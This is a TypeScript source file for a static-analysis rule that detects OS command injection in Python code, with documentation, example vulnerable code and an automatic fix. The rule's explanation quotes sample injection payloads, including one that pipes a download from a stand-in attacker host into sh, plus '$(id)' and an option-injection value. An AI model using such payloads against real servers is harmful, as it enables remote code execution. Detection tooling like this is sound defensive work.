import type { Node } from 'web-tree-sitter';
import type { RuleContext } from '../../engine/context';
import type { CallSite } from '../../engine/model';
import type { OffsetEdit } from '../../engine/types';
import { contains, isFalsyLiteral, isTruthyLiteral, stringValue } from '../../engine/syntax';
import {
  argumentListOf,
  commandHeads,
  EXEC_FUNCTIONS,
  listElements,
  scriptArgument,
  SHELL_FUNCTIONS,
  SHELL_QUOTERS,
  startsWithFixedProgram,
  SUBPROCESS_FUNCTIONS,
} from '../support/commands';
import { builtAtRunTime, shortText, validatedBefore } from '../support/dynamic';
import { removeArgument, replaceNode } from '../support/edits';
import { defineRule } from '../rule';

/** Request values that are always `str`: the list fix need not wrap them in `str()`. */
const TEXT_SOURCES = /^(request\.(args|form|values|headers|cookies|view_args)|URL parameter)/;

export default defineRule({
  meta: {
    id: 'FS202',
    name: 'os-command-injection',
    title: 'OS command built from request data or run through a shell',
    severity: 'error',
    confidence: 'high',
    cwe: ['CWE-78'],
    owasp: ['A03:2021'],
    fix: { title: 'Pass a list of arguments without shell=True', safety: 'unsafe' },
    docs: {
      summary:
        'Finds request data (query string, form, JSON, headers, cookies, URL parameters — also through variables, string formatting and helpers of the same file) that reaches a shell: `os.system`, `os.popen`, `subprocess.getoutput`/`getstatusoutput`, `commands.*`, `asyncio.create_subprocess_shell`, `subprocess.run`/`call`/`check_call`/`check_output`/`Popen` with `shell=True`, the script of `["bash", "-c", script]`-style argument lists (also `python -c`, `perl -e`, `node -e`, `cmd /c`, `powershell -Command`), and paramiko `exec_command`. Request data that chooses the program itself is reported too, with or without a shell: the first element of a `subprocess` argument list, `os.exec*`/`os.spawn*`/`os.posix_spawn`, `asyncio.create_subprocess_exec` and `pty.spawn`. Import aliases (`import subprocess as sp`, `from os import system`) are followed. A command string assembled at run time from values that are not request data is reported with medium confidence when it runs in a shell. Values passed through `shlex.quote()`, converted with `int()`, or checked before use against an allow-list or a full regular-expression match are not reported; neither are argument lists whose program is fixed (request data as a plain argument can still inject options such as `--output=/etc/passwd`, which this rule does not judge).',
      why: 'A shell parses the whole command line: a value such as `example.com; curl https://evil.example/x | sh` or `$(id)` runs the attacker\'s commands with the web server\'s privileges — reading secrets, installing a backdoor, moving on inside the network. Letting the client name the program (`subprocess.run([request.args["tool"], ...])`) is the same thing without a shell.',
      example:
        '@app.route("/ping")\ndef ping():\n    host = request.args["host"]\n    return subprocess.check_output(f"ping -c 1 {host}", shell=True)',
      fix: '@app.route("/ping")\ndef ping():\n    host = request.args["host"]\n    # no shell: the host is one argument, whatever characters it holds\n    return subprocess.check_output(["ping", "-c", "1", "--", host])\n\n# when a shell is unavoidable, quote every value:\nos.system("ping -c 1 " + shlex.quote(host))',
    },
    references: [
      'https://owasp.org/www-community/attacks/Command_Injection',
      'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
      'https://docs.python.org/3/library/subprocess.html#security-considerations',
      'https://docs.python.org/3/library/shlex.html#shlex.quote',
    ],
  },
  // subprocess, os.system / popen / exec* / spawn*, commands.getoutput, or paramiko's exec_command.
  trigger: /subprocess|system|popen|getoutput|getstatusoutput|execl|execv|spawn|exec_command/,
  check(ctx: RuleContext) {
    const reported = new Set<number>();
    // A value found through a name (`argv = ["bash", "-c", x]` earlier) is reported at the call that runs it.
    const report = (
      site: CallSite,
      node: Node,
      message: string,
      options: Parameters<RuleContext['report']>[2] = {},
    ) => {
      const at = contains(site.node, node) ? node : site.node;
      if (reported.has(at.id)) return;
      reported.add(at.id);
      ctx.report(at, message, options);
    };

    /**
     * Text a shell (or an interpreter, for `kind: 'code'`) parses: request data in it is reported with high
     * confidence, a string assembled from other run-time values with medium confidence.
     */
    const checkScript = (
      site: CallSite,
      script: Node,
      what: string,
      advice: string,
      options: { kind?: 'command' | 'code'; maybe?: boolean; fix?: () => OffsetEdit[] } = {},
    ): void => {
      const kind = options.kind ?? 'command';
      const taint = ctx.taint.reaches(script, kind, site.scope);
      if (taint) {
        if (validatedBefore(ctx, script)) return;
        report(site, script, `Request data (${taint.label}) reaches ${what}: ${advice}`, {
          taint,
          confidence: options.maybe ? 'medium' : 'high',
          fix: options.fix?.() ?? [],
        });
        return;
      }
      const part = builtAtRunTime(ctx, script, (n) => isQuoted(ctx, n, kind), { words: kind === 'command' });
      if (!part || validatedBefore(ctx, script)) return;
      report(
        site,
        script,
        `A command string built at run time (from \`${shortText(part)}\`) reaches ${what}: ${advice}`,
        {
          confidence: options.maybe ? 'low' : 'medium',
          fix: options.fix?.() ?? [],
        },
      );
    };

    /** Request data that names the program run (no shell needed for that to be fatal). */
    const checkProgram = (site: CallSite, program: Node, what: string): boolean => {
      const taint = ctx.taint.reaches(program, 'command', site.scope);
      if (!taint || validatedBefore(ctx, program)) return false;
      report(
        site,
        program,
        `Request data (${taint.label}) chooses the program run by ${what}: map the request value to a fixed program from an allow-list instead.`,
        { taint },
      );
      return true;
    };

    /** `["bash", "-c", script]`: a fixed shell or interpreter whose script argument carries the data. */
    const checkRunner = (site: CallSite, program: string, argv: readonly Node[], what: string): void => {
      const script = scriptArgument(program, argv);
      if (!script) return;
      checkScript(
        site,
        script.node,
        `the script run by \`${program} ${script.flag}\` in ${what}`,
        'pass the values as separate arguments to a fixed program instead of building a script.',
        { kind: script.kind },
      );
    };

    /** An argument vector or command string run without a shell. */
    const checkExec = (site: CallSite, command: Node, what: string): void => {
      for (const head of commandHeads(ctx, command)) {
        if (head.kind === 'element') {
          const value = ctx.file.resolveValue(head.node);
          // `[sys.executable, "-c", code]`: the running Python interpreter.
          const program =
            ctx.file.imports.resolve(value) === 'sys.executable' ? 'python' : stringValue(value);
          if (program === undefined) checkProgram(site, head.node, what);
          else checkRunner(site, program, listElements(head.list) ?? [], what);
        } else if (head.kind === 'string') {
          if (!startsWithFixedProgram(ctx, head.node)) checkProgram(site, head.node, what);
        } else if (!isComputedElsewhere(ctx, head.node)) {
          checkProgram(site, head.node, what);
        }
      }
    };

    // Every finding is reported inside its call (see report()).
    for (const site of ctx.file.calls) {
      if (!ctx.inFocus(site.node)) continue;
      const callee = site.callee ?? '';
      const what = `${site.calleeText ?? site.name}()`;

      const shellFunction = SHELL_FUNCTIONS.get(callee);
      if (shellFunction) {
        const command =
          site.args.positional[shellFunction.index] ?? site.args.keywords.get(shellFunction.keyword);
        if (command)
          checkScript(
            site,
            command,
            `the shell command of ${what}`,
            callee.includes('create_subprocess_shell')
              ? 'use asyncio.create_subprocess_exec() with separate arguments, or quote each value with shlex.quote().'
              : 'use subprocess.run() with a list of arguments (no shell), or quote each value with shlex.quote().',
          );
        continue;
      }

      if (SUBPROCESS_FUNCTIONS.has(callee)) {
        const command = site.args.positional[0] ?? site.args.keywords.get('args');
        if (!command) continue;
        const executable = site.args.keywords.get('executable');
        if (executable) checkProgram(site, executable, what);
        const shell = site.args.keywords.get('shell');
        const shellValue = shell ? ctx.file.resolveValue(shell) : null;
        if (shell && shellValue && !isFalsyLiteral(shellValue)) {
          // A shell value that is not a constant (`shell=os.name == "nt"`) may be true: lower confidence.
          const maybe = !isTruthyLiteral(shellValue);
          const heads = commandHeads(ctx, command);
          // `run(["ls " + x], shell=True)`: the first list element is the script, the rest its $0, $1...
          const scripts =
            heads.length > 0 && heads.every((h) => h.kind === 'element')
              ? heads.map((h) => h.node)
              : [command];
          for (const script of scripts) {
            checkScript(
              site,
              script,
              `the shell command of ${what} with shell=True`,
              'pass a list of arguments without shell=True, or quote each value with shlex.quote().',
              {
                maybe,
                fix: () => (maybe || script !== command ? [] : listFix(ctx, site, command, shell)),
              },
            );
          }
          if (!maybe) continue;
        }
        checkExec(site, command, what);
        continue;
      }

      const exec = EXEC_FUNCTIONS.get(callee);
      if (exec) {
        const program =
          site.args.positional[exec.program] ?? site.args.keywords.get(exec.program === 0 ? 'path' : 'file');
        if (!program) continue;
        if (checkProgram(site, program, what)) continue;
        const name = stringValue(ctx.file.resolveValue(program));
        const vector = site.args.positional[exec.argv];
        const argv = exec.list
          ? vector
            ? listElements(ctx.file.resolveValue(vector))
            : null
          : site.args.positional.slice(exec.argv);
        if (name !== undefined && argv) checkRunner(site, name, argv, what);
        continue;
      }

      if (callee === 'pty.spawn') {
        const argv = site.args.positional[0] ?? site.args.keywords.get('argv');
        if (argv) checkExec(site, argv, what);
        continue;
      }

      // Methods, whatever the receiver: paramiko's `SSHClient.exec_command` / `Channel.exec_command` and
      // asyncio's `loop.subprocess_shell` / `loop.subprocess_exec`.
      if (!site.receiver) continue;
      if (site.name === 'exec_command') {
        const command = site.args.positional[0] ?? site.args.keywords.get('command');
        const taint = command ? ctx.taint.reaches(command, 'command', site.scope) : null;
        if (command && taint && !validatedBefore(ctx, command))
          report(
            site,
            command,
            `Request data (${taint.label}) reaches the remote shell command of ${what}: quote each value with shlex.quote(), or run a fixed command.`,
            { taint },
          );
      } else if (site.name === 'subprocess_shell') {
        const command = site.args.positional[1] ?? site.args.keywords.get('cmd');
        if (command)
          checkScript(
            site,
            command,
            `the shell command of ${what}`,
            'use subprocess_exec() with separate arguments, or quote each value with shlex.quote().',
          );
      } else if (site.name === 'subprocess_exec') {
        const program = site.args.positional[1] ?? site.args.keywords.get('program');
        if (program && !checkProgram(site, program, what)) {
          const name = stringValue(ctx.file.resolveValue(program));
          if (name !== undefined) checkRunner(site, name, site.args.positional.slice(2), what);
        }
      }
    }
  },
});

/** A value quoted for the sink: `shlex.quote(x)`, or data the taint analysis knows was made safe for it. */
function isQuoted(ctx: RuleContext, node: Node, kind: 'command' | 'code'): boolean {
  if (node.type === 'call') {
    const callee = ctx.file.callAt(node)?.callee ?? '';
    if (kind === 'command' && SHELL_QUOTERS.has(callee)) return true;
  }
  if (node.type !== 'identifier' && node.type !== 'call') return false;
  const taint = ctx.taint.taintOf(node);
  return taint !== null && taint.sanitized.has(kind);
}

/**
 * `subprocess.run(build_argv(name))`: an argument vector computed by another function. Request data among its
 * inputs does not tell which element it ends up in, so only values read straight from the request count.
 */
function isComputedElsewhere(ctx: RuleContext, node: Node): boolean {
  if (node.type !== 'call') return false;
  const site = ctx.file.callAt(node);
  if (site?.receiver && ctx.taint.isRequestObject(site.receiver)) return false;
  const fn = node.childForFieldName('function');
  return !(fn?.type === 'attribute' && site?.receiver && ctx.taint.taintOf(site.receiver));
}

/** `run(f"ping -c 1 {host}", shell=True)` → `run(["ping", "-c", "1", host])`. */
function listFix(ctx: RuleContext, site: CallSite, command: Node, shell: Node): OffsetEdit[] {
  const keyword = shell.parent;
  if (keyword?.type !== 'keyword_argument' || site.args.keywords.has('executable') || site.args.hasSplat)
    return [];
  if (!isTruthyLiteral(shell)) return [];
  const list = argumentListOf(ctx, command, (value) => {
    const taint = ctx.taint.taintOf(value);
    return taint !== null && TEXT_SOURCES.test(taint.label) && !/\.(getlist|get_json)\b/.test(value.text);
  });
  if (!list) return [];
  return [replaceNode(command, list), removeArgument(ctx, keyword)];
}
